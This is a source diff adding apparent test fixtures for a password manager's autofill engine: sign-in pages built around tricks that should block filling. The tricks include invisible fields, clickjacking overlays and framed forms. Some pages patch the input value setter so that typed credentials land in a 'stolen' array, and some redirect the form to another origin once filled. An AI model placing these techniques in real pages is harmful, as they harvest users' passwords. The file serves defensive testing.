@@ -1,0 +1,141 @@
+// Pages that want a credential where no person sees it go. Each is a sign-in form under one trick; nothing may be filled.
+// `late` tricks begin a moment after the page was drawn. Numbers T… are those of docs/threat-model.md.
+
+const FIELDS = `<p><label>User name <input name="user" autocomplete="username"></label></p>
+  <p><label>Password <input name="password" type="password" autocomplete="current-password"></label></p>`;
+const form = (inner: string) => `<form method="post" action="/session">${inner}</form>`;
+const BUTTON = '<button>Sign in</button>';
+const styled = (style: string) => form(`<div style="${style}">${FIELDS}</div>${BUTTON}`);
+const fieldStyle = (style: string) => `<style>input { ${style} }</style>${form(FIELDS + BUTTON)}`;
+const scripted = (script: string) => `${form(FIELDS + BUTTON)}<script>
+  const [user, password] = document.querySelectorAll('input'); const form = document.forms[0]; ${script}</script>`;
+const cover = (style: string, inner = 'Nothing to see') =>
+  `${form(FIELDS + BUTTON)}<div style="position:fixed;inset:0;background:white;z-index:9;${style}">${inner}</div>`;
+
+/** T13: fields that no person sees, or no longer sees when the value would arrive. */
+export const HIDDEN: Record<string, string> = {
+  'no-opacity': fieldStyle('opacity: 0'),
+  'hardly-any-opacity': fieldStyle('opacity: 0.001'),
+  'ancestor-opacity': styled('opacity: 0'),
+  'opacity-that-multiplies': form(`<div style="opacity:.4"><div style="opacity:.4">${FIELDS}</div></div>${BUTTON}`),
+  'filter-opacity': styled('filter: opacity(0)'),
+  'filter-opacity-percent': fieldStyle('filter: blur(0px) opacity(5%)'),
+  mask: styled(
+    '-webkit-mask-image: linear-gradient(transparent, transparent); mask-image: linear-gradient(transparent, transparent)',
+  ),
+  'visibility-hidden': styled('visibility: hidden'),
+  'not-displayed': styled('display: none'),
+  'content-visibility': styled('content-visibility: hidden'),
+  'clip-path': fieldStyle('clip-path: inset(50%)'),
+  'clip-path-on-ancestor': styled('clip-path: circle(0)'),
+  'clip-rect': styled('position: absolute; clip: rect(0, 0, 0, 0)'),
+  'no-size': fieldStyle('width: 0; height: 0; padding: 0; border: 0'),
+  'one-pixel': fieldStyle('width: 1px; height: 1px; padding: 0; border: 0'),
+  'box-without-height': styled('height: 0; overflow: hidden'),
+  'off-left': styled('position: absolute; left: -9999px'),
+  'off-top': fieldStyle('position: absolute; top: -9999px'),
+  'fixed-outside': styled('position: fixed; left: 200vw; top: 0'),
+  'scaled-away': styled('transform: scale(0)'),
+  'scaled-small': styled('transform: scale(0.02)'),
+  'moved-by-transform': styled('transform: translateX(-9999px)'),
+  'turned-edge-on': styled('transform: rotateY(90deg)'),
+  zoomed: styled('zoom: 0.01'),
+  covered: cover(''),
+  'covered-by-a-veil': cover('pointer-events: none'),
+  'covered-by-a-picture': `${form(FIELDS + BUTTON)}<img alt="" style="position:fixed;inset:0;width:100%;height:100%;pointer-events:none" src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' width='9' height='9'%3E%3Crect width='9' height='9' fill='white'/%3E%3C/svg%3E">`,
+  'covered-by-a-frame': `${form(FIELDS + BUTTON)}<iframe srcdoc="<p>Hello" style="position:fixed;inset:0;width:100%;height:100%;background:white"></iframe>`,
+  inert: `<div inert>${form(FIELDS + BUTTON)}</div>`,
+  'behind-a-dialog': scripted(
+    `const box = document.createElement('dialog'); box.textContent = 'Cookies?'; document.body.append(box); box.showModal();`,
+  ),
+  'behind-a-popover': `${form(FIELDS + BUTTON)}<div popover style="width:100vw;height:100vh;background:white;margin:0;border:0">Cookies?</div>
+    <script>document.querySelector('[popover]').showPopover()</script>`,
+  'in-closed-details': `<details><summary>More</summary>${form(FIELDS + BUTTON)}</details>`,
+  'moved-on-focus': scripted(
+    `password.addEventListener('focus', () => { password.style.cssText = 'position:absolute;left:-9999px' }); user.remove();`,
+  ),
+  'faded-on-focus': scripted(`addEventListener('focusin', () => { form.style.opacity = 0 });`),
+  'covered-on-focus': scripted(`addEventListener('focusin', () => { const veil = document.createElement('div');
+    veil.style.cssText = 'position:fixed;inset:0;background:white'; document.body.append(veil); });`),
+  'hides-the-password-when-the-name-comes': scripted(
+    `user.addEventListener('input', () => { password.style.opacity = 0 });`,
+  ),
+  'shown-every-other-frame': scripted(
+    `let n = 0; (function turn() { form.style.opacity = n++ % 2; requestAnimationFrame(turn) })();`,
+  ),
+  'swapped-between-look-and-fill': scripted(`setTimeout(() => { form.style.transform = 'translateX(-9999px)' }, 0);
+    requestAnimationFrame(function turn() { form.style.transform = 'translateX(-9999px)'; requestAnimationFrame(turn) });`),
+};
+
+const late = (script: string) => `<script>setTimeout(() => { ${script} }, 300)</script>`;
+const veil = (style: string) =>
+  `const v = document.createElement('div'); v.textContent = 'Are you a robot?'; v.style.cssText = 'position:fixed;inset:0;background:white;${style}'; document.body.append(v);`;
+const follow = (
+  pointer: string,
+) => `const lens = document.createElement('div'); lens.style.cssText = 'position:fixed;width:900px;height:900px;background:white;${pointer}';
+  document.body.append(lens); addEventListener('mousemove', (e) => { lens.style.left = e.clientX - 450 + 'px'; lens.style.top = e.clientY - 450 + 'px' }); lens.style.left = lens.style.top = '0px';`;
+
+/** T12: what clickjacks the interface that other managers draw into pages; ours draws none, and fills nothing here. */
+export const CLICKJACKED: Record<string, string> = {
+  'body-faded': `<style>body { opacity: .01 }</style>${form(FIELDS + BUTTON)}`,
+  'body-faded-late': `${form(FIELDS + BUTTON)}${late('document.body.style.opacity = .01')}`,
+  'html-faded': `<style>html { opacity: .01 }</style>${form(FIELDS + BUTTON)}`,
+  'html-faded-late': `${form(FIELDS + BUTTON)}${late('document.documentElement.style.opacity = .01')}`,
+  'overlay-that-takes-clicks': `${form(FIELDS + BUTTON)}<script>${veil('')}</script>`,
+  'overlay-that-takes-clicks-late': `${form(FIELDS + BUTTON)}${late(veil(''))}`,
+  'overlay-that-lets-clicks-through': `${form(FIELDS + BUTTON)}<script>${veil('pointer-events:none')}</script>`,
+  'overlay-that-lets-clicks-through-late': `${form(FIELDS + BUTTON)}${late(veil('pointer-events:none'))}`,
+  'top-layer-overlay': `${form(FIELDS + BUTTON)}<script>${veil('width:100vw;height:100vh;margin:0;border:0')}; v.popover = 'manual'; v.showPopover();</script>`,
+  'top-layer-overlay-late': `${form(FIELDS + BUTTON)}${late(`${veil('width:100vw;height:100vh;margin:0;border:0')}; v.popover = 'manual'; v.showPopover();`)}`,
+  'lens-that-follows-the-pointer': `${form(FIELDS + BUTTON)}<script>${follow('')}</script>`,
+  'lens-that-follows-and-lets-through': `${form(FIELDS + BUTTON)}<script>${follow('pointer-events:none')}</script>`,
+};
+
+const framed = (attributes: string) =>
+  `<h1>A page</h1><iframe ${attributes} style="width:600px;height:300px"></iframe>`;
+const inner = form(FIELDS + BUTTON).replaceAll('"', '&quot;');
+
+/** T14: forms in frames that are not of the page's own origin by their address. */
+export const FRAMED: Record<string, string> = {
+  'another-origin': framed('src="http://localhost:ELSEWHERE/plain"'),
+  srcdoc: framed(`srcdoc="${inner}"`),
+  'about-blank': `${framed('')}<script>document.querySelector('iframe').contentDocument.body.innerHTML = ${JSON.stringify(form(FIELDS + BUTTON))}</script>`,
+  'data-address': framed(`src="data:text/html,${encodeURIComponent(form(FIELDS + BUTTON))}"`),
+  'blob-address': `${framed('')}<script>document.querySelector('iframe').src = URL.createObjectURL(new Blob([${JSON.stringify(form(FIELDS + BUTTON))}], { type: 'text/html' }))</script>`,
+  sandboxed: framed('sandbox="allow-forms allow-scripts" src="/plain"'),
+  'moved-to-another-origin': framed('src="/away"'),
+};
+
+const SPY = `window.stolen = []; const keep = (v) => window.stolen.push(String(v));`;
+/** T21: the page's own world lies about everything; the engine must fill as if it did not, and never through the page's code. */
+export const TAMPERED: Record<string, string> = {
+  'value-setter': `${form(FIELDS + BUTTON)}<script>${SPY}
+    Object.defineProperty(HTMLInputElement.prototype, 'value', { get() { return 'lie' }, set(v) { keep(v) } });</script>`,
+  queries: `${form(FIELDS + BUTTON)}<script>${SPY}
+    for (const it of [Document, DocumentFragment, Element]) it.prototype.querySelector = it.prototype.querySelectorAll = () => [];
+    Document.prototype.elementFromPoint = () => null; Element.prototype.attachShadow = () => null;</script>`,
+  geometry: `${form(FIELDS + BUTTON)}<script>${SPY}
+    Element.prototype.getBoundingClientRect = () => ({ width: 0, height: 0, left: 0, top: 0 });
+    Element.prototype.checkVisibility = () => false; window.getComputedStyle = () => ({ opacity: 0 });</script>`,
+  events: `${form(FIELDS + BUTTON)}<script>${SPY}
+    EventTarget.prototype.dispatchEvent = () => false; HTMLElement.prototype.click = () => {}; HTMLFormElement.prototype.requestSubmit = () => {};</script>`,
+  clobbered: form(
+    `<input type="hidden" name="action" value="http://localhost:ELSEWHERE/session"><input type="hidden" name="submit" value="x"><input type="hidden" name="elements" value="x">${FIELDS}${BUTTON}`,
+  ),
+};
+
+/** T18: forms that send to another origin, at once or once they have been filled. */
+export const SENT_ELSEWHERE: Record<string, string> = {
+  action: `<form method="post" action="http://localhost:ELSEWHERE/session">${FIELDS}${BUTTON}</form>`,
+  formaction: form(`${FIELDS}<button formaction="http://localhost:ELSEWHERE/session">Sign in</button>`),
+  'base-address': `<base href="http://localhost:ELSEWHERE/">${form(FIELDS + BUTTON).replace('/session', 'session')}`,
+  'changed-on-input': scripted(
+    `password.addEventListener('input', () => { form.action = 'http://localhost:ELSEWHERE/session' });`,
+  ),
+  'changed-on-click': scripted(
+    `document.querySelector('button').addEventListener('click', () => { form.action = 'http://localhost:ELSEWHERE/session' });`,
+  ),
+  'changed-on-submit': scripted(
+    `form.addEventListener('submit', () => { form.action = 'http://localhost:ELSEWHERE/session' }, true);`,
+  ),
+};
